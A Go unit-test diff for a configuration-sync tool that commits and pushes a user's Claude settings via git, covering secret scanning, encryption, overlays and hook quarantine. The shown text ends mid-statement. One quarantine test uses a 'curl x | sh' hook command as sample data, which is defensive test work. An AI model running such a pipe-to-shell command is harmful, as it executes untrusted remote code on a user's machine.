@@ -2,9 +2,17 @@ package sync
 
 import (
 	"context"
+	"errors"
+	"fmt"
+	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/mock"
+
+	gitpkg "github.com/mfenderov/claude-sync/internal/git"
+	"github.com/mfenderov/claude-sync/internal/hookgate"
+	"github.com/mfenderov/claude-sync/internal/secretscan"
+	"github.com/mfenderov/claude-sync/internal/vault"
 )
 
 func TestService_Run_NormalSync(t *testing.T) {
@@ -21,12 +29,15 @@ func TestService_Run_NormalSync(t *testing.T) {
 	git.EXPECT().ClaudeDirExists().Return(true, nil)
 	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
 	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
 	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{"settings.json"}, nil)
 	git.EXPECT().GenerateAutoCommitMessage().Return("Auto-sync: 2024-01-01")
 	git.EXPECT().CommitChanges(mock.Anything, claudeDir, "Auto-sync: 2024-01-01").Return(nil)
 	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(false, nil) // No leftover changes after commit
 	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).Return(nil)
 	git.EXPECT().Push(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().ListMirrors(mock.Anything, claudeDir).Return(nil, nil)
 	git.EXPECT().GetRecentCommits(mock.Anything, claudeDir, 5).Return([]string{"abc123 Previous commit"}, nil)
 	git.EXPECT().GetBranchInfo(mock.Anything, claudeDir).Return("main", 0, 0, nil).Maybe()
 
@@ -66,10 +77,13 @@ func TestService_Run_NoChanges(t *testing.T) {
 	git.EXPECT().ClaudeDirExists().Return(true, nil)
 	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
 	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
 	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{}, nil)  // No changes
 	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(false, nil) // Confirm no hidden changes
 	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).Return(nil)
 	git.EXPECT().Push(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().ListMirrors(mock.Anything, claudeDir).Return(nil, nil)
 	git.EXPECT().GetRecentCommits(mock.Anything, claudeDir, 5).Return([]string{}, nil)
 
 	// Logger expectations
@@ -94,6 +108,417 @@ func TestService_Run_NoChanges(t *testing.T) {
 	// CommitChanges should NOT have been called (verified by mock expectations)
 }
 
+func TestService_Run_UpgradesGitignore(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+
+	claudeDir := "/home/user/.claude"
+
+	// The upgraded .gitignore is committed like any other local change
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(true, nil)
+	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{".gitignore"}, nil)
+	git.EXPECT().GenerateAutoCommitMessage().Return("Auto-sync: 2024-01-01")
+	git.EXPECT().CommitChanges(mock.Anything, claudeDir, "Auto-sync: 2024-01-01").Return(nil)
+	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(false, nil)
+	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().Push(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().ListMirrors(mock.Anything, claudeDir).Return(nil, nil)
+	git.EXPECT().GetRecentCommits(mock.Anything, claudeDir, 5).Return([]string{}, nil)
+
+	logger.EXPECT().Success("✓", "Updated .gitignore with the latest default patterns").Once()
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Success(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Info(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Muted(mock.Anything).Maybe()
+	logger.EXPECT().ListItem(mock.Anything).Maybe()
+	logger.EXPECT().Newline().Maybe()
+	logger.EXPECT().Box(mock.Anything, mock.Anything).Maybe()
+
+	prompter.EXPECT().SpinWhile(mock.Anything, mock.Anything).RunAndReturn(func(msg string, task func() error) error {
+		return task()
+	}).Maybe()
+
+	service := NewService(git, prompter, logger)
+	if err := service.Run(context.Background()); err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+}
+
+func TestService_Run_SecretsBlockCommit(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+	scanner := NewMockSecretScanner(t)
+
+	claudeDir := "/home/user/.claude"
+	finding := secretscan.Finding{
+		File:        "settings.json",
+		Line:        3,
+		Rule:        "github-token",
+		Description: "GitHub token",
+		Fingerprint: "0123456789ab",
+	}
+
+	// Nothing is committed, pulled, or pushed (verified by mock expectations)
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{"settings.json", "CLAUDE.md"}, nil)
+	scanner.EXPECT().Scan(claudeDir, []string{"settings.json", "CLAUDE.md"}).Return([]secretscan.Finding{finding}, []string{"CLAUDE.md"}, nil)
+
+	// Files scanned only in part are named
+	logger.EXPECT().Warning("⚠️", "Scanned only the first 1 MiB of 1 large file(s) for secrets").Once()
+	logger.EXPECT().ListItem("→ CLAUDE.md").Once()
+	logger.EXPECT().Error("✗", "Possible secrets found - nothing was committed", mock.Anything).Once()
+	logger.EXPECT().ListItem("→ settings.json:3: GitHub token (fingerprint 0123456789ab)").Once()
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Success(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().ListItem(mock.Anything).Maybe()
+	logger.EXPECT().Muted(mock.Anything).Maybe()
+	logger.EXPECT().Newline().Maybe()
+
+	service := NewService(git, prompter, logger, WithSecretScanner(scanner))
+	err := service.Run(context.Background())
+
+	var secretsErr *SecretsFoundError
+	if !errors.As(err, &secretsErr) || len(secretsErr.Findings) != 1 {
+		t.Fatalf("Run() error = %v, want SecretsFoundError with one finding", err)
+	}
+}
+
+func TestService_Run_SealsAndUnsealsSecrets(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+	secrets := NewMockSecretStore(t)
+
+	claudeDir := "/home/user/.claude"
+
+	// Sidecars are written before the changes are listed, so they are committed
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
+	secrets.EXPECT().Seal(mock.Anything, claudeDir).Return([]string{"mcp.json.enc"}, nil).Once()
+	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{"mcp.json.enc"}, nil)
+	git.EXPECT().GenerateAutoCommitMessage().Return("Auto-sync: 2024-01-01")
+	git.EXPECT().CommitChanges(mock.Anything, claudeDir, "Auto-sync: 2024-01-01").Return(nil)
+	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(false, nil)
+	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).Return(nil)
+	secrets.EXPECT().Unseal(mock.Anything, claudeDir).Return([]string{"settings.local.json"}, nil).Once()
+	git.EXPECT().Push(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().ListMirrors(mock.Anything, claudeDir).Return(nil, nil)
+	git.EXPECT().GetRecentCommits(mock.Anything, claudeDir, 5).Return([]string{}, nil)
+
+	logger.EXPECT().Success("🔒", "Encrypted 1 secret file(s)").Once()
+	logger.EXPECT().Success("🔓", "Decrypted 1 secret file(s)").Once()
+	logger.EXPECT().ListItem("→ settings.local.json").Once()
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Success(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Info(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Muted(mock.Anything).Maybe()
+	logger.EXPECT().ListItem(mock.Anything).Maybe()
+	logger.EXPECT().Newline().Maybe()
+	logger.EXPECT().Box(mock.Anything, mock.Anything).Maybe()
+
+	prompter.EXPECT().SpinWhile(mock.Anything, mock.Anything).RunAndReturn(func(msg string, task func() error) error {
+		return task()
+	}).Maybe()
+
+	service := NewService(git, prompter, logger, WithSecretStore(secrets))
+	if err := service.Run(context.Background()); err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+}
+
+func TestService_Run_SkipsSecretsWithoutKey(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+	secrets := NewMockSecretStore(t)
+
+	claudeDir := "/home/user/.claude"
+	noKey := fmt.Errorf("%w: copy the key file", vault.ErrNoKey)
+
+	// A machine without the key still syncs everything else
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
+	secrets.EXPECT().Seal(mock.Anything, claudeDir).Return(nil, noKey)
+	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{}, nil)
+	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(false, nil)
+	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).Return(nil)
+	secrets.EXPECT().Unseal(mock.Anything, claudeDir).Return(nil, noKey)
+	git.EXPECT().Push(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().ListMirrors(mock.Anything, claudeDir).Return(nil, nil)
+	git.EXPECT().GetRecentCommits(mock.Anything, claudeDir, 5).Return([]string{}, nil)
+
+	logger.EXPECT().Muted("  Encrypted files skipped: " + noKey.Error()).Twice()
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Success(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Newline().Maybe()
+	logger.EXPECT().Box(mock.Anything, mock.Anything).Maybe()
+
+	prompter.EXPECT().SpinWhile(mock.Anything, mock.Anything).RunAndReturn(func(msg string, task func() error) error {
+		return task()
+	}).Maybe()
+
+	service := NewService(git, prompter, logger, WithSecretStore(secrets))
+	if err := service.Run(context.Background()); err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+}
+
+func TestService_Run_CapturesAndAppliesOverlays(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+	overlays := NewMockOverlayBuilder(t)
+
+	claudeDir := "/home/user/.claude"
+
+	// Local edits land in the layers before they are listed and committed
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
+	overlays.EXPECT().Capture(mock.Anything, claudeDir).Return([]string{"settings.laptop.json"}, nil).Once()
+	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{"settings.laptop.json"}, nil)
+	git.EXPECT().GenerateAutoCommitMessage().Return("Auto-sync: 2024-01-01")
+	git.EXPECT().CommitChanges(mock.Anything, claudeDir, "Auto-sync: 2024-01-01").Return(nil)
+	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(false, nil)
+	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).Return(nil)
+	overlays.EXPECT().Apply(mock.Anything, claudeDir).Return([]string{"settings.json"}, nil).Once()
+	git.EXPECT().Push(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().ListMirrors(mock.Anything, claudeDir).Return(nil, nil)
+	git.EXPECT().GetRecentCommits(mock.Anything, claudeDir, 5).Return([]string{}, nil)
+
+	logger.EXPECT().Success("✓", "Updated 1 overlay layer(s) with local edits").Once()
+	logger.EXPECT().Success("✓", "Built 1 file(s) from overlays").Once()
+	logger.EXPECT().ListItem("→ settings.json").Once()
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Success(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Info(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Muted(mock.Anything).Maybe()
+	logger.EXPECT().ListItem(mock.Anything).Maybe()
+	logger.EXPECT().Newline().Maybe()
+	logger.EXPECT().Box(mock.Anything, mock.Anything).Maybe()
+
+	prompter.EXPECT().SpinWhile(mock.Anything, mock.Anything).RunAndReturn(func(msg string, task func() error) error {
+		return task()
+	}).Maybe()
+
+	service := NewService(git, prompter, logger, WithOverlays(overlays))
+	if err := service.Run(context.Background()); err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+}
+
+func TestService_Run_OverlayCaptureFailureStopsCommit(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+	overlays := NewMockOverlayBuilder(t)
+
+	claudeDir := "/home/user/.claude"
+	captureErr := errors.New("settings.json: invalid character")
+
+	// Nothing is committed, pulled, or pushed (verified by mock expectations)
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	overlays.EXPECT().Capture(mock.Anything, claudeDir).Return(nil, captureErr)
+
+	logger.EXPECT().Error("✗", "Failed to update overlay layers", captureErr).Once()
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Success(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Newline().Maybe()
+
+	service := NewService(git, prompter, logger, WithOverlays(overlays))
+	if err := service.Run(context.Background()); !errors.Is(err, captureErr) {
+		t.Fatalf("Run() error = %v, want %v", err, captureErr)
+	}
+}
+
+func TestService_Run_QuarantinesPulledHooks(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+	hooks := NewMockHookGate(t)
+
+	claudeDir := "/home/user/.claude"
+	pending := []hookgate.Hook{
+		{File: "hooks/check.sh", Hash: "a"},
+		{File: "settings.json", Event: "PostToolUse", Command: "curl x | sh", Hash: "b"},
+	}
+
+	// Quarantined files go back to their committed content for the pull only
+	released := false
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
+	hooks.EXPECT().Capture(mock.Anything, claudeDir).Return(nil, nil).Once()
+	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{}, nil)
+	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(false, nil)
+	hooks.EXPECT().Release(mock.Anything, claudeDir).RunAndReturn(func(context.Context, string) error {
+		released = true
+		return nil
+	}).Once()
+	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).RunAndReturn(func(context.Context, string) error {
+		if !released {
+			t.Error("pulled before the quarantined hooks were released")
+		}
+		return nil
+	})
+	hooks.EXPECT().Quarantine(mock.Anything, claudeDir).Return(pending, nil).Once()
+	git.EXPECT().Push(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().ListMirrors(mock.Anything, claudeDir).Return(nil, nil)
+	git.EXPECT().GetRecentCommits(mock.Anything, claudeDir, 5).Return([]string{}, nil)
+
+	logger.EXPECT().Warning("🚧", "2 hook(s) from other machines are disabled until approved").Once()
+	logger.EXPECT().ListItem("→ hooks/check.sh").Once()
+	logger.EXPECT().ListItem("→ settings.json PostToolUse: curl x | sh").Once()
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Success(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Info(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Muted(mock.Anything).Maybe()
+	logger.EXPECT().Newline().Maybe()
+	logger.EXPECT().Box(mock.Anything, mock.Anything).Maybe()
+
+	prompter.EXPECT().SpinWhile(mock.Anything, mock.Anything).RunAndReturn(func(msg string, task func() error) error {
+		return task()
+	}).Maybe()
+
+	service := NewService(git, prompter, logger, WithHookGate(hooks))
+	if err := service.Run(context.Background()); err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+}
+
+func TestService_Run_RequarantinesEditedHookFilesAfterCommit(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+	hooks := NewMockHookGate(t)
+
+	claudeDir := "/home/user/.claude"
+	committed := false
+
+	// settings.json was edited while quarantined: it is committed with its
+	// pulled hooks, then quarantined again before the pull
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
+	hooks.EXPECT().Capture(mock.Anything, claudeDir).Return([]string{"settings.json"}, nil).Once()
+	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{"settings.json"}, nil)
+	git.EXPECT().GenerateAutoCommitMessage().Return("Auto-sync")
+	git.EXPECT().CommitChanges(mock.Anything, claudeDir, "Auto-sync").RunAndReturn(func(context.Context, string, string) error {
+		committed = true
+		return nil
+	})
+	hooks.EXPECT().Quarantine(mock.Anything, claudeDir).RunAndReturn(func(context.Context, string) ([]hookgate.Hook, error) {
+		if !committed {
+			t.Error("quarantined again before the commit")
+		}
+		return nil, nil
+	}).Twice()
+	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(false, nil)
+	hooks.EXPECT().Release(mock.Anything, claudeDir).Return(nil).Once()
+	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().Push(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().ListMirrors(mock.Anything, claudeDir).Return(nil, nil)
+	git.EXPECT().GetRecentCommits(mock.Anything, claudeDir, 5).Return([]string{}, nil)
+
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Success(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Info(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Muted(mock.Anything).Maybe()
+	logger.EXPECT().ListItem(mock.Anything).Maybe()
+	logger.EXPECT().Newline().Maybe()
+	logger.EXPECT().Box(mock.Anything, mock.Anything).Maybe()
+
+	prompter.EXPECT().SpinWhile(mock.Anything, mock.Anything).RunAndReturn(func(msg string, task func() error) error {
+		return task()
+	}).Maybe()
+
+	service := NewService(git, prompter, logger, WithHookGate(hooks))
+	if err := service.Run(context.Background()); err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+}
+
+func TestService_Run_QuarantineFailureFailsSync(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+	hooks := NewMockHookGate(t)
+
+	claudeDir := "/home/user/.claude"
+	quarantineErr := errors.New("permission denied")
+
+	// Pulled hooks could run, so nothing is pushed
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	hooks.EXPECT().Capture(mock.Anything, claudeDir).Return(nil, nil)
+	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{}, nil)
+	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(false, nil)
+	hooks.EXPECT().Release(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).Return(nil)
+	hooks.EXPECT().Quarantine(mock.Anything, claudeDir).Return(nil, quarantineErr)
+
+	logger.EXPECT().Error("✗", "Failed to quarantine unapproved hooks", quarantineErr).Once()
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Success(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Newline().Maybe()
+
+	prompter.EXPECT().SpinWhile(mock.Anything, mock.Anything).RunAndReturn(func(msg string, task func() error) error {
+		return task()
+	}).Maybe()
+
+	service := NewService(git, prompter, logger, WithHookGate(hooks))
+	if err := service.Run(context.Background()); !errors.Is(err, quarantineErr) {
+		t.Fatalf("Run() error = %v, want %v", err, quarantineErr)
+	}
+}
+
 func TestService_InitFlow_EmptyRemote_FreshInit(t *testing.T) {
 	t.Parallel()
 
@@ -327,12 +752,15 @@ func TestService_Run_HiddenChanges(t *testing.T) {
 	git.EXPECT().ClaudeDirExists().Return(true, nil)
 	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
 	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
 	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{}, nil) // Reports no changes
 	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(true, nil) // But there ARE changes!
 	git.EXPECT().GenerateAutoCommitMessage().Return("Auto-sync: 2024-01-01")
 	git.EXPECT().CommitChanges(mock.Anything, claudeDir, "Auto-sync: 2024-01-01").Return(nil)
 	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).Return(nil)
 	git.EXPECT().Push(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().ListMirrors(mock.Anything, claudeDir).Return(nil, nil)
 	git.EXPECT().GetRecentCommits(mock.Anything, claudeDir, 5).Return([]string{}, nil)
 
 	// Logger expectations
@@ -387,3 +815,483 @@ func TestService_UserDeclinesSetup(t *testing.T) {
 		t.Fatalf("Run() error = %v", err)
 	}
 }
+
+func TestService_Run_DryRun(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+
+	claudeDir := "/home/user/.claude"
+
+	// Dry run inspects and fetches, but never commits, pulls, or pushes
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{"settings.json"}, nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().GenerateAutoCommitMessage().Return("Auto-sync: 2024-01-01")
+	git.EXPECT().Fetch(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().GetCommitsInRange(mock.Anything, claudeDir, "HEAD..@{upstream}").Return([]string{"def456 Remote change"}, nil)
+	git.EXPECT().GetFilesInRange(mock.Anything, claudeDir, "HEAD...@{upstream}").Return([]string{"hooks/a.sh"}, nil)
+	git.EXPECT().GetCommitsInRange(mock.Anything, claudeDir, "@{upstream}..HEAD").Return([]string{}, nil)
+	git.EXPECT().GetFilesInRange(mock.Anything, claudeDir, "@{upstream}...HEAD").Return([]string{}, nil)
+
+	var boxes []string
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Success(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Info(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Muted(mock.Anything).Maybe()
+	logger.EXPECT().ListItem(mock.Anything).Maybe()
+	logger.EXPECT().Newline().Maybe()
+	logger.EXPECT().Box(mock.Anything, mock.Anything).Run(func(title, content string) {
+		boxes = append(boxes, title+"\n"+content)
+	}).Maybe()
+
+	prompter.EXPECT().SpinWhile(mock.Anything, mock.Anything).RunAndReturn(func(msg string, task func() error) error {
+		return task()
+	}).Maybe()
+
+	service := NewService(git, prompter, logger, WithDryRun(true))
+	ctx := context.Background()
+
+	if err := service.Run(ctx); err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+
+	if len(boxes) != 1 || !strings.Contains(boxes[0], "def456 Remote change") || !strings.Contains(boxes[0], "hooks/a.sh") {
+		t.Errorf("expected incoming report with commit and file, got %v", boxes)
+	}
+}
+
+func TestService_Run_DryRun_NotGitRepo(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+
+	claudeDir := "/home/user/.claude"
+
+	// No prompts should be shown and nothing should be initialized
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(false)
+
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Info(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Muted(mock.Anything).Maybe()
+	logger.EXPECT().Newline().Maybe()
+
+	service := NewService(git, prompter, logger, WithDryRun(true))
+	ctx := context.Background()
+
+	if err := service.Run(ctx); err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+}
+
+// eventRecorder is a Logger that also implements EventLogger, recording
+// phases and structured data the way the NDJSON logger would.
+type eventRecorder struct {
+	phases []string
+	data   map[string]map[string]any
+	phase  string
+}
+
+func (r *eventRecorder) Title(string)                {}
+func (r *eventRecorder) Success(string, string)      {}
+func (r *eventRecorder) Error(string, string, error) {}
+func (r *eventRecorder) Warning(string, string)      {}
+func (r *eventRecorder) Info(string, string)         {}
+func (r *eventRecorder) Muted(string)                {}
+func (r *eventRecorder) ListItem(string)             {}
+func (r *eventRecorder) Box(string, string)          {}
+func (r *eventRecorder) Newline()                    {}
+
+func (r *eventRecorder) Phase(name string) {
+	r.phase = name
+	r.phases = append(r.phases, name)
+}
+
+func (r *eventRecorder) Data(fields map[string]any) {
+	if r.data == nil {
+		r.data = map[string]map[string]any{}
+	}
+	if r.data[r.phase] == nil {
+		r.data[r.phase] = map[string]any{}
+	}
+	for k, v := range fields {
+		r.data[r.phase][k] = v
+	}
+}
+
+func TestService_Run_StructuredEvents(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	recorder := &eventRecorder{}
+
+	claudeDir := "/home/user/.claude"
+
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
+	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{"settings.json"}, nil)
+	git.EXPECT().GenerateAutoCommitMessage().Return("Auto-sync: 2024-01-01")
+	git.EXPECT().CommitChanges(mock.Anything, claudeDir, "Auto-sync: 2024-01-01").Return(nil)
+	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(false, nil)
+	git.EXPECT().RevParse(mock.Anything, claudeDir, "HEAD").Return("abc123full", nil)
+	git.EXPECT().RevParse(mock.Anything, claudeDir, "@{upstream}").Return("old999full", nil)
+	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().GetCommitsInRange(mock.Anything, claudeDir, "old999full..@{upstream}").Return([]string{"def456 Remote change"}, nil)
+	git.EXPECT().GetCommitsInRange(mock.Anything, claudeDir, "@{upstream}..HEAD").Return([]string{"abc123 Auto-sync: 2024-01-01"}, nil)
+	git.EXPECT().Push(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().ListMirrors(mock.Anything, claudeDir).Return(nil, nil)
+	git.EXPECT().GetBranchInfo(mock.Anything, claudeDir).Return("main", 0, 0, nil)
+	git.EXPECT().GetRecentCommits(mock.Anything, claudeDir, 5).Return([]string{"abc123 Auto-sync: 2024-01-01"}, nil)
+
+	prompter.EXPECT().SpinWhile(mock.Anything, mock.Anything).RunAndReturn(func(msg string, task func() error) error {
+		return task()
+	}).Maybe()
+
+	service := NewService(git, prompter, recorder)
+	if err := service.Run(context.Background()); err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+
+	wantPhases := []string{"check", "commit", "pull", "push", "summary"}
+	if strings.Join(recorder.phases, ",") != strings.Join(wantPhases, ",") {
